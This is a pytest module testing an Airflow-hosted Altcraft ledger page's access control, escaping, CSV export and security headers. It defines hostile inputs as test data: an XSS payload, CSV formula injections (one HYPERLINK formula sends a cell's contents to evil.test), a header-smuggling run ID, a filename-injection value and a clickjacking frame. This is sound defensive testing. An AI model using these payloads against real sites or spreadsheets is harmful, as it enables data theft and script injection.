"""The Altcraft page over HTTP, mounted in Airflow's real API server, on a PostgreSQL ledger.

The server runs in a subprocess (``tests.ui.airflow_server``): Airflow's own auth manager checks
the tokens, with a user who may read only one of the two DAGs.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import uuid
from collections.abc import Generator, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import requests
import sqlalchemy as sa

import altcraft
from altcraft.ledger import Ledger, Outcome, RelaunchPolicy, RunRef, Scope, Settlement
from tests.conftest import copy_metadata, fresh_scenario_id

from .airflow_server import NOBODY, READABLE, RESTRICTED, SLOW_GRACE, WATERMARK

REPO = Path(__file__).resolve().parents[2]
PG = "postgresql+psycopg2://postgres@127.0.0.1:5432"
SECRET = "secret_dag"
XSS = "<img src=x onerror=alert(1)>"
#: What makes a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)", "\tcmd", "\r=1")
SCOPE, OLD = Scope("https://acme.altcraft.test", 7), Scope("https://acme.altcraft.test", 99)
DIED = Scope("https://acme.altcraft.test", 8)
PIPELINE = Scope("https://acme.altcraft.test", 11)  # the scenario of the pipelines of the server's PIPELINES
ONCE = RelaunchPolicy.parse("once")
USERS = {"admin": "admin-pw", "viewer": "viewer-pw", RESTRICTED: "restricted-pw", NOBODY: "nobody-pw"}


def _admin(statement: str) -> None:
    engine = sa.create_engine(f"{PG}/postgres", isolation_level="AUTOCOMMIT")
    with engine.connect() as conn:
        conn.exec_driver_sql(statement)
    engine.dispose()


def _fill(ledger: Ledger) -> None:
    """Both DAGs' run ``r1`` with hostile reasons and source keys (``secret_dag``'s settled just now, an
    hour after ``open_dag``'s); a contact both DAGs sent; and an uncertain contact of another scenario
    whose only outcome is 40 days old; two contacts of another scenario that tries of ``open_dag``'s run left
    ``sending``, one just now (in flight, maybe), one 7 hours ago (stale: the try died); run ``r1`` of each
    pipeline DAG with a contact left uncertain an hour ago."""
    now = datetime.now(UTC)
    for dag_id, at in ((READABLE, now - timedelta(hours=1)), (SECRET, now)):  # uncertain: for long, just now
        run = RunRef.create(dag_id, "import_and_launch", "r1", 1)
        sources = [XSS, *FORMULAS, f"{dag_id} row"]
        items = [(f"email:{dag_id}-{n}@example.org", source) for n, source in enumerate(sources)]
        claim = ledger.claim(SCOPE, run, items, ONCE, now=at)
        texts = (XSS, *FORMULAS, f"why {dag_id} failed")
        outcomes = (Outcome.LAUNCHED, Outcome.FAILED, Outcome.UNCERTAIN)
        settled = {
            key: Settlement(outcomes[n % 3], code=400, text=texts[n % len(texts)])
            for n, key in enumerate(claim.to_send)
        }
        ledger.settle(SCOPE, run, claim, settled, now=at)
        ledger.record(SCOPE, run, Outcome.REJECTED, [(None, f"{XSS}{dag_id}", 1, f"=1+1 {XSS}")])
    for dag_id, outcome, relaunch in ((READABLE, Outcome.LAUNCHED, False), (SECRET, Outcome.FAILED, True)):
        run = RunRef.create(dag_id, "import_and_launch", "r1", 1)
        claim = ledger.claim(
            SCOPE, run, [("email:shared@example.org", f"src {dag_id}")], ONCE, relaunch=relaunch
        )
        ledger.settle(
            SCOPE,
            run,
            claim,
            {k: Settlement(outcome, code=5, text=f"text of {dag_id}") for k in claim.to_send},
        )
    # contacts that tries of open_dag's r1 claimed and died sending (just now; 7 h ago: stale): no outcome
    # row, still `sending`
    for key, at in (
        ("email:died@example.org", now),
        ("email:died-long-ago@example.org", now - timedelta(hours=7)),
    ):
        ledger.claim(DIED, RunRef.create(READABLE, "import_and_launch", "r1", 1), [(key, "d")], ONCE, now=at)
    for dag_id in (WATERMARK, SLOW_GRACE):
        run, hour_ago = RunRef.create(dag_id, "import_and_launch", "r1", 1), now - timedelta(hours=1)
        claim = ledger.claim(PIPELINE, run, [(f"email:{dag_id}@example.org", "row")], ONCE, now=hour_ago)
        uncertain = {k: Settlement(Outcome.UNCERTAIN, text="timeout") for k in claim.to_send}
        ledger.settle(PIPELINE, run, claim, uncertain, now=hour_ago)
    old, then = RunRef.create(READABLE, "import_and_launch", "old", 1), now - timedelta(days=40)
    claim = ledger.claim(OLD, old, [("email:old@example.org", "old row")], ONCE, now=then)
    ledger.settle(
        OLD, old, claim, {k: Settlement(Outcome.UNCERTAIN, text="timeout") for k in claim.to_send}, now=then
    )


class Page:
    """The running server: GET/POST the page's routes as one of the users."""

    def __init__(self, url: str, tokens: dict[str, str]) -> None:
        self.url, self.tokens = url, tokens

    def get(self, path: str, user: str | None = "admin", **params: object) -> requests.Response:
        headers = {"Authorization": f"Bearer {self.tokens[user]}"} if user else {}
        return requests.get(f"{self.url}/altcraft{path}", params=params, headers=headers, timeout=60)

    def search(self, text: str, user: str = "admin") -> requests.Response:
        headers = {"Authorization": f"Bearer {self.tokens[user]}"}
        return requests.post(f"{self.url}/altcraft/contact", data={"q": text}, headers=headers, timeout=60)


def _free_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@contextmanager
def serving(home: Path, ledger_url: str, migrated: Path) -> Generator[Page]:
    """Airflow's API server (metadata in ``home``, a copy of ``migrated``) with the page reading the ledger
    at ``ledger_url``."""
    (home / "dags").mkdir()
    (home / "passwords.json").write_text(json.dumps(USERS))
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(REPO), str(Path(altcraft.__file__).parent.parent)]),
        "AIRFLOW_HOME": str(home),
        "AIRFLOW__CORE__DAGS_FOLDER": str(home / "dags"),
        "AIRFLOW__CORE__LOAD_EXAMPLES": "False",
        "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN": f"sqlite:///{home}/airflow.db",
        "AIRFLOW__CORE__AUTH_MANAGER": "tests.ui.airflow_server.PerDagAuthManager",
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": ",".join(
            ["admin:admin", "viewer:viewer", f"{RESTRICTED}:viewer", f"{NOBODY}:viewer"]
        ),
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_PASSWORDS_FILE": str(home / "passwords.json"),
        "AIRFLOW__API_AUTH__JWT_SECRET": uuid.uuid4().hex,
        "AIRFLOW__API__SECRET_KEY": uuid.uuid4().hex,
        "AIRFLOW_CONN_UI_LEDGER": ledger_url,
        "AIRFLOW__ALTCRAFT__LEDGER_CONN_ID": "ui_ledger",
    }
    copy_metadata(migrated, home / "airflow.db")
    port = _free_port()
    log = (home / "server.log").open("w")
    server = subprocess.Popen(
        [sys.executable, "-m", "tests.ui.airflow_server", str(port), READABLE, SECRET, WATERMARK, SLOW_GRACE],
        cwd=REPO, env=env, stdout=log, stderr=subprocess.STDOUT,
    )  # fmt: skip
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 180
        while True:
            assert server.poll() is None, (home / "server.log").read_text()
            try:
                requests.get(f"{url}/api/v2/monitor/health", timeout=5)
                break
            except requests.ConnectionError:
                assert time.monotonic() < deadline, "the API server did not start"
                time.sleep(0.5)
        tokens = {
            user: requests.post(
                f"{url}/auth/token", json={"username": user, "password": password}, timeout=60
            ).json()["access_token"]
            for user, password in USERS.items()
        }
        yield Page(url, tokens)
    finally:
        server.terminate()
        server.wait(30)
        log.close()


@contextmanager
def database() -> Generator[str]:
    """A new PostgreSQL database (its name), dropped at the end."""
    name = f"altcraft_ui_app_{uuid.uuid4().hex[:10]}"
    _admin(f"CREATE DATABASE {name}")
    try:
        yield name
    finally:
        _admin(f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")


@pytest.fixture(scope="module")
def ledger_db() -> Iterator[str]:
    """The PostgreSQL ledger the page reads (its database name), filled by `_fill`."""
    with database() as name:
        engine = sa.create_engine(f"{PG}/{name}")
        ledger = Ledger(engine)
        ledger.ensure_schema()
        _fill(ledger)
        engine.dispose()
        yield name


@pytest.fixture(scope="module")
def page(tmp_path_factory, ledger_db, migrated_metadata) -> Iterator[Page]:
    home = tmp_path_factory.mktemp("airflow-ui-app")
    with serving(home, f"postgresql://postgres@127.0.0.1:5432/{ledger_db}", migrated_metadata) as page:
        yield page


RUN = {"dag_id": READABLE, "run_id": "r1"}


def test_every_route_requires_a_user_and_read_access_to_the_dag(page):
    for path in ("/", "/run", "/run.csv", "/contact", "/plan", "/static/altcraft.css"):
        assert page.get(path, user=None, **RUN).status_code == 401, path
    secret = {"dag_id": SECRET, "run_id": "r1"}
    for path in ("/run", "/run.csv"):
        assert page.get(path, RESTRICTED, **secret).status_code == 403, path
        assert page.get(path, RESTRICTED, **RUN).status_code == 200, path
    assert page.get("/plan", RESTRICTED, action="dry_run", **RUN).status_code == 403
    assert page.get("/plan", "viewer", action="dry_run", **RUN).status_code == 403


def test_every_answer_forbids_foreign_frames_inline_script_and_sniffing(page):
    answers = [
        *(page.get(path, **RUN) for path in ("/", "/run", "/run.csv", "/contact", "/static/altcraft.js")),
        page.get("/plan", action="dry_run", **RUN),
        page.get("/plan", "viewer", action="dry_run", **RUN),  # 403
        page.get("/run", page=0, **RUN),  # 422
        page.search("shared@example.org"),
    ]
    for answer in answers:
        policy = answer.headers.get("Content-Security-Policy", "")
        assert "frame-ancestors 'self'" in policy and "script-src 'self';" in policy, answer.url
        assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_ledger_texts_are_escaped_on_every_page(page):
    texts = [
        page.get("/run", **RUN).text,
        page.get("/run", outcome=XSS, **RUN).text,
        page.get("/").text,
        page.search(XSS).text,
        page.search("shared@example.org").text,
    ]
    for html in texts:
        assert "onerror" not in html or "&lt;img src=x onerror=alert(1)&gt;" in html
        assert "<img" not in html


def test_the_csv_export_neutralises_formulas_and_masks_contacts(page):
    answer = page.get("/run.csv", **RUN)
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == 8 + 1 + 1  # the run's contacts, its rejected row, the shared contact
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    kept = {"'" + text for text in FORMULAS[:-1]} | {"'\r'=1"}  # as text; a line break may start a cell
    assert {row["source_key"] for row in rows} >= kept
    assert "@example.org" not in answer.text


#: Texts that start a cell in the middle of a cell where Excel reads a CSV with ``;`` (the list separator of
#: its Russian locale, among others: it splits there and at every line break, a quote opens a cell only
#: at the cell's start), each a formula there.
HIDDEN_FORMULAS = ("x;=1+2;", 'x;"=1+2";', "x;@SUM(1);", "x\n=1+2", "x\r\n-2+3", "x;\t=1+2")


def test_the_csv_export_neutralises_formulas_where_excel_splits_cells_at_semicolons(page, ledger_db):
    """A reason or source key that Python's CSV writer leaves unquoted (no comma in it) was split by such an
    Excel at its ``;``, the part after it a cell of its own that ran as a formula."""
    engine = sa.create_engine(f"{PG}/{ledger_db}")
    run = RunRef.create(READABLE, "import_and_launch", "hidden-formulas", 1)
    rows = [(None, text, None, text) for text in HIDDEN_FORMULAS]
    Ledger(engine).record(Scope(SCOPE.platform, fresh_scenario_id()), run, Outcome.REJECTED, rows)
    engine.dispose()
    answer = page.get("/run.csv", dag_id=READABLE, run_id="hidden-formulas")
    assert answer.status_code == 200
    exported = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(exported) == len(HIDDEN_FORMULAS)
    for row in exported:  # every text kept, a spreadsheet shows it as text
        assert row["reason"] == row["source_key"] and row["reason"].replace("'", "") in HIDDEN_FORMULAS
    excel = csv.reader(io.StringIO(answer.text), delimiter=";")
    as_excel_reads_it = [cell for line in excel for cell in line]
    assert len(as_excel_reads_it) > 3 * len(HIDDEN_FORMULAS)  # split where such an Excel splits
    assert not [cell for cell in as_excel_reads_it if cell.lstrip('"').startswith(FORMULA_STARTS)]


def test_hostile_query_parameters_get_a_clear_4xx(page):
    for page_number in (10**20, 2**63, 2**62):
        assert page.get("/run", page=page_number, **RUN).status_code == 422, page_number
    assert page.get("/run", page=10**9, **RUN).status_code == 200  # far past the last page: no rows
    nul = "r1\x00"
    for path, params in (
        ("/run", {"dag_id": READABLE, "run_id": nul}),
        ("/run", {**RUN, "outcome": "failed\x00"}),
        ("/run.csv", {"dag_id": READABLE, "run_id": nul}),
        ("/contact", {"h": "\x00"}),
        ("/plan", {**RUN, "action": "relaunch_selected", "selected": "\x00"}),
    ):
        answer = page.get(path, **params)
        assert answer.status_code == 400, (path, params, answer.status_code)
        assert "NUL" in answer.json()["detail"]
    assert page.search("x" * 10_000_000).status_code == 413, "a search body is bounded"
    assert page.search("shared@example.org").status_code == 200
    for run_id in ("я", "r1\r\nSet-Cookie: x=1", 'a"; filename=evil.exe'):
        answer = page.get("/run.csv", dag_id=READABLE, run_id=run_id)
        assert answer.status_code == 200, run_id
        assert "x" not in answer.cookies
        assert answer.headers["Content-Disposition"].count("filename=") == 1


def open_counts(html: str, scenario: int) -> dict[str, int]:
    """The "N <status> now" badges of a scenario's card on the Pipelines page."""
    card = html.split(f'data-scenario="{scenario}"', 1)[1].split("</section>", 1)[0]
    found = re.findall(r'data-open="(\w+)">(\d+) ', card)
    return {status: int(count) for status, count in found}


def test_open_contacts_show_though_their_outcomes_are_older_than_the_trend(page):
    html = page.get("/").text
    assert open_counts(html, OLD.scenario_id) == {"uncertain": 1}


def test_contacts_a_stale_claim_left_sending_are_not_shown_as_sending_now(page):
    """A claim older than the ledger's stale_after was never settled (its try died): the card said "2
    sending now" with the one in flight; now apart, saying what settles it."""
    html = page.get("/").text
    assert open_counts(html, DIED.scenario_id) == {"sending": 1, "stale_sending": 1}
    card = html.split(f'data-scenario="{DIED.scenario_id}"', 1)[1].split("</section>", 1)[0]
    assert "1 sending now" in card and "1 stale (reconcile to settle)" in card


def test_a_user_sees_no_counts_or_contact_state_set_by_a_dag_they_may_not_read(page):
    # open now: 3 failed and 2 uncertain of each DAG's run, and the shared contact that secret_dag failed
    assert open_counts(page.get("/").text, SCOPE.scenario_id) == {"failed": 7, "uncertain": 4}
    assert open_counts(page.get("/", RESTRICTED).text, SCOPE.scenario_id) == {"failed": 3, "uncertain": 2}
    found = page.search("shared@example.org", RESTRICTED).text
    assert "text of open_dag" in found  # its own outcome...
    # ...but not the claim, source key and error that secret_dag left on the contact
    assert "state-hidden" in found and SECRET not in found
    assert SECRET in page.search("shared@example.org").text


def attention(html: str) -> dict[str, int]:
    """The "N uncertain" / "N failed" badges that flag what a person must look at."""
    return {status: int(n) for status, n in re.findall(r'data-attention="(\w+)">(\d+) ', html)}


def test_a_run_with_uncertain_sending_or_failed_contacts_never_looks_clean(page):
    run = page.get("/run", **RUN).text
    alert = run.split('id="attention"', 1)[1].split("</p>", 1)[0]
    # now: with the shared one secret_dag failed, and the two tries left sending: one stale, one in flight
    assert attention(alert) == {"uncertain": 2, "sending": 1, "stale_sending": 1, "failed": 4}
    assert "1 stale sending</span>" in alert
    restricted = page.get("/run", RESTRICTED, **RUN).text.split('id="attention"', 1)[1].split("</p>", 1)[0]
    expected = {"uncertain": 2, "sending": 1, "stale_sending": 1, "failed": 3}
    assert attention(restricted) == expected, "not secret_dag's failure"
    assert "may or may not have launched" in alert
    assert "<em>Reconcile now</em> does too" in alert, "a dead claim no later run reads is reconciled so"
    assert "<strong>Stale sending</strong>" in alert and "<em>Reconcile now</em> settles them" in alert
    row = page.get("/").text.split(f'data-dag="{READABLE}"', 1)[1].split("</tr>", 1)[0]
    assert 'state-success">success' in row and attention(row) == {"uncertain": 2, "failed": 3}  # its last run
    assert 'id="attention"' not in page.get("/run", dag_id=READABLE, run_id="no-outcomes").text


def test_a_reconciliation_or_resend_plan_counts_whom_the_run_may_reach(page):
    """Both deliver the run's whole window: its failed and uncertain contacts may get messages (3 failed, 2
    uncertain of its own, and the shared contact another DAG left failed), and new ones of the window."""
    for action in ("reconcile", "resend_uncertain"):
        planned = page.get("/plan", action=action, **RUN).json()
        assert planned["people"] == 6, action
        message = planned["message"]
        assert "up to 6 people of this run" in message and "new to the window" in message
    dry = page.get("/plan", action="dry_run", **RUN).json()
    assert dry["people"] == 0 and "Nothing is sent" in dry["message"]


def _all_routes(page: Page) -> dict[str, requests.Response]:
    """Every page and endpoint that reads the ledger, as the admin."""
    return {
        "/": page.get("/"),
        "/run": page.get("/run", **RUN),
        "/run.csv": page.get("/run.csv", **RUN),
        "/contact?h": page.get("/contact", h="0" * 64),
        "POST /contact": page.search("anna@example.org"),
        "/plan": page.get("/plan", action="reconcile", **RUN),
    }


def test_a_missing_old_or_unreachable_ledger_is_said_on_every_route_not_a_server_error(
    tmp_path, migrated_metadata
):
    with (
        database() as name,
        serving(tmp_path, f"postgresql://postgres@127.0.0.1:5432/{name}", migrated_metadata) as page,
    ):
        engine = sa.create_engine(f"{PG}/{name}")
        states = {}
        states["missing"] = _all_routes(page)  # an empty database: no ledger tables
        Ledger(engine).ensure_schema()
        with engine.begin() as conn:  # a ledger of an older version: no per-day counts
            conn.exec_driver_sql("DROP TABLE altcraft_outcome_days")
        old = _all_routes(page)  # the pages that read the per-day counts
        states["old"] = {route: old[route] for route in ("/", "POST /contact")}
        engine.dispose()
        _admin(f"DROP DATABASE {name} WITH (FORCE)")
        states["unreachable"] = _all_routes(page)
    for state, answers in states.items():
        for route, answer in answers.items():
            assert answer.status_code == 503, (state, route, answer.status_code, answer.text[:300])
            text = answer.text if route != "/plan" else answer.json()["detail"]
            assert "ledger" in text, (state, route, text[:300])
            assert "postgres@" not in text and "Traceback" not in text
    assert "first pipeline run" in states["missing"]["/"].text  # how its tables are created or upgraded


@pytest.fixture
def admin_tab(browser, page):
    """A browser tab with the admin's Airflow session cookie, on the run page of ``open_dag``."""
    context = browser.new_context()
    context.add_cookies([{"name": "_token", "value": page.tokens["admin"], "url": page.url}])
    tab = context.new_page()
    tab.goto(f"{page.url}/altcraft/run?dag_id={READABLE}&run_id=r1")
    yield tab
    context.close()


@pytest.mark.parametrize("clicks", ["dblclick", "two clicks"])
def test_an_action_clicked_twice_asks_once_and_starts_one_run(admin_tab, clicks):
    blocked = []  # the page works under its own Content-Security-Policy
    admin_tab.on("console", lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None)
    admin_tab.reload()
    triggers = []
    admin_tab.on(
        "request", lambda r: triggers.append(r) if r.method == "POST" and "/dagRuns" in r.url else None
    )
    button = admin_tab.locator("button[data-action=reconcile]")
    if clicks == "dblclick":
        button.dblclick()
    else:
        button.click()
        button.click(force=True)  # as a person would, on a button that may already be disabled
    admin_tab.locator("#confirm button[value=ok]").click()
    admin_tab.locator(".actions .result").filter(has_text="Airflow").wait_for()  # its answer is shown
    admin_tab.wait_for_timeout(500)
    assert len(triggers) == 1, [r.url for r in triggers]
    assert not admin_tab.locator("#confirm").evaluate("d => d.open")
    assert not blocked


def test_uncertain_contacts_are_never_resent_while_altcraft_may_still_process_their_request(page):
    """secret_dag's run left contacts uncertain just now: a resend could launch them twice, reconciling
    cannot (it waits for the grace before it calls a request not processed)."""
    secret = {"dag_id": SECRET, "run_id": "r1"}
    fresh, failed = (SCOPE.contact_hash(f"email:{SECRET}-{n}@example.org") for n in (2, 1))
    for selected in ([], [fresh], [fresh, failed]):
        answer = page.get("/plan", action="resend_uncertain", selected=selected, **secret)
        assert answer.status_code == 409, selected
        assert "may launch it twice" in answer.json()["detail"]
    assert page.get("/plan", action="resend_uncertain", selected=[failed], **secret).status_code == 200
    assert page.get("/plan", action="reconcile", **secret).status_code == 200
    assert page.get("/plan", action="resend_uncertain", **RUN).status_code == 200  # uncertain for an hour


def test_a_resend_waits_for_the_pipelines_own_reconciliation_grace(page):
    """slow_grace_dag reconciles with a two-hour grace: its contact uncertain for an hour is not resent."""
    answer = page.get("/plan", action="resend_uncertain", dag_id=SLOW_GRACE, run_id="r1")
    assert answer.status_code == 409 and "less than 2h ago" in answer.json()["detail"]
    assert page.get("/plan", action="reconcile", dag_id=SLOW_GRACE, run_id="r1").status_code == 200


def test_a_source_keeping_a_position_gets_no_resend_or_relaunch_of_the_runs_contacts(page):
    """watermark_dag's source reads past its watermark, not the run's window: a new run reads none of the
    run's contacts, so it resends or relaunches none; reconciling and a dry run stay, saying so."""
    run = {"dag_id": WATERMARK, "run_id": "r1"}
    contact = PIPELINE.contact_hash(f"email:{WATERMARK}@example.org")
    for action, selected in (
        ("resend_uncertain", []),
        ("resend_uncertain", [contact]),
        ("relaunch_selected", [contact]),
    ):
        answer = page.get("/plan", action=action, selected=selected, **run)
        assert answer.status_code == 400, (action, answer.status_code, answer.text)
        assert "keeps a position" in answer.json()["detail"] and "Reconcile now" in answer.json()["detail"]
    reconcile = page.get("/plan", action="reconcile", **run).json()
    assert reconcile["people"] == 0 and "none of this run's contacts is sent again" in reconcile["message"]
    assert "past its position" in page.get("/plan", action="dry_run", **run).json()["message"]
    html = page.get("/run", **run).text
    assert 'id="keeps-position"' in html
    assert set(re.findall(r'data-action="(\w+)"', html)) == {"reconcile", "dry_run"}


@pytest.fixture
def foreign_page(page) -> Iterator[str]:
    """A page of another origin on the same site (another port of 127.0.0.1, where the browser still sends
    Airflow's SameSite=Lax cookie) that frames the run page, as one stealing clicks would."""
    import http.server
    import threading

    html = f'<iframe id="victim" src="{page.url}/altcraft/run?dag_id={READABLE}&run_id=r1"></iframe>'.encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()


def test_a_page_of_another_origin_cannot_frame_the_actions(browser, page, foreign_page):
    context = browser.new_context()
    context.add_cookies([{"name": "_token", "value": page.tokens["admin"], "url": page.url}])
    tab = context.new_page()
    framed = []
    tab.on("response", lambda r: framed.append(r.status) if "/altcraft/run" in r.url else None)
    tab.goto(foreign_page)
    tab.wait_for_timeout(1500)
    assert framed == [200], "the framed page was requested with the session cookie"
    frame = tab.frame_locator("#victim")
    assert frame.locator("button[data-action]").count() == 0, "the run page rendered inside a foreign page"
    context.close()


def test_a_ledger_table_locked_by_an_upgrade_gets_a_503_in_seconds_not_a_hung_page(page, ledger_db):
    engine = sa.create_engine(f"{PG}/{ledger_db}")
    try:
        with engine.connect() as locker:  # as an ALTER TABLE of a schema upgrade holds it
            locker.exec_driver_sql("LOCK TABLE altcraft_outcome_days IN ACCESS EXCLUSIVE MODE")
            started = time.monotonic()
            answer = page.get("/")
            assert answer.status_code == 503 and "lock timeout" in answer.text
            assert time.monotonic() - started < 15
            locker.rollback()
    finally:
        engine.dispose()
    assert page.get("/").status_code == 200


def test_a_run_without_a_data_interval_offers_no_action_on_another_window(page):
    """A new run would get the interval Airflow infers for its logical date (now): not the run's window."""
    run = {"dag_id": READABLE, "run_id": "no_interval"}
    for action in ("reconcile", "resend_uncertain", "dry_run"):
        answer = page.get("/plan", action=action, **run)
        assert answer.status_code == 400 and "no data interval" in answer.json()["detail"], action
    html = page.get("/run", **run).text
    assert 'id="no-actions"' in html and "data-action" not in html
    assert "data-action" in page.get("/run", **RUN).text


def test_a_user_who_may_read_no_pipeline_is_told_so_not_that_the_ledger_is_empty(page):
    html = page.get("/", NOBODY).text
    assert "You may read none of the pipelines" in html and "No outcomes in the ledger" not in html
    assert 'data-scenario="' not in html
